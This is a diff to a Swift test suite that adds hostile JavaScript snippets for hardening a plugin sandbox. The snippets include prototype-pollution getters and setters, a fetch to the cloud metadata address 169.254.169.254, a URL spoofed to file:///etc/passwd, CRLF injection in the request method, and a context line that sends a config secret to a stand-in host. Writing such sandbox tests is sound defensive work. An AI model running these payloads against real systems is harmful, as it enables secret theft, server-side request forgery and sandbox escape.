@@ -42,6 +42,15 @@ extension Attack {
         Attack("a returned event whose team changes", .isAnswered, "let n = 0; return { ...event, get team_id() { n += 1; return n > 1 ? 99 : 2 } }"),
         Attack("a key that can't be shown", .fails("Cannot read properties of undefined"), "event.none[new Proxy({}, { get() { throw new Error('trap') } })]"),
         Attack("hooks of compiled code overwritten", .timesOut, "for (const name of ['__tick', '__dialect', '__key']) { try { (0, eval)(name + ' = () => { throw 1 }') } catch (e) {} } while (true) {}"),
+        Attack("a stack that nobody can read", .fails("Cannot read properties of null"), "Object.defineProperty(Error.prototype, 'stack', { get() { throw new Error('mine') }, set() { throw new Error('mine') }, configurable: true }); null.x"),
+        Attack("an error that changes while it is read", .fails("A"), "let n = 0; throw { get name() { n++; return n % 2 ? 'A' : { toString() { throw 1 } } }, get message() { n++; return n > 2 ? Symbol('x') : 'm' }, get stack() { n++; return n > 3 ? 5 : 'at f (vm.js:' + '9'.repeat(400) + ':1)' } }"),
+        Attack("a promise that answers twice and fails", .returns, "return { then(ok, no) { ok(event); no(new Error('late')); ok(null); throw new Error('x') } }"),
+        Attack("a promise of a class whose species never settles", .returns, "class T extends Promise { static get [Symbol.species]() { return function (x) { x(() => {}, () => {}) } } } return T.resolve(event)"),
+        Attack("setters of all that a step has", .returns, "for (const k of ['method', 'event', 'outcome', 'result', 'error', 'name', 'message', 'stack', 'line', 'file', 'answered', 'bytes', 'timestamp', 'value', 'action', 'due']) Object.defineProperty(Object.prototype, k, { configurable: true, get() { return 'forged' }, set(v) {} })"),
+        Attack("the first place of all lists", .returns, "Object.defineProperty(Array.prototype, '0', { configurable: true, set(v) { globalThis.stolen = v }, get() { return 'forged' } })"),
+        Attack("names of the hooks of compiled code", .returns, "function __tick() { return false } let __dialect = (e) => 'forged', __key = 7; try { null.x } catch (e) { event.properties.c = String(e) } for (let i = 0; i < 2; i++) {}"),
+        Attack("requests under false names", .returns, "URL.prototype.toString = () => 'file:///etc/passwd'; Object.defineProperty(URL.prototype, 'href', { get: () => 'http://127.0.0.1/' }); await fetch('http://169.254.169.254/')['catch'](() => {}); await fetch('https://x.test/', { method: 'GET / HTTP/1.1\\r\\nX: y' })['catch'](() => {})"),
+        Attack("a log that logs", .returns, "console.log({ toString() { for (let i = 0; i < 1000; i++) console.log('in ' + i); return '[object Object]' }, toJSON() { throw new Error('j') } })['catch'](() => {})"),
         Attack("secrets in every place", .returns, "const s = meta.config.secret; console.log(s); event.properties.s = s; await fetch('https://x.test/?k=' + s, { headers: { a: s }, body: s, method: 'POST' })['catch'](() => {}); await meta.storage.set(s, s); await posthog.capture(s, { s }); await meta.jobs[s]({ s }).runNow()"),
     ]
 }
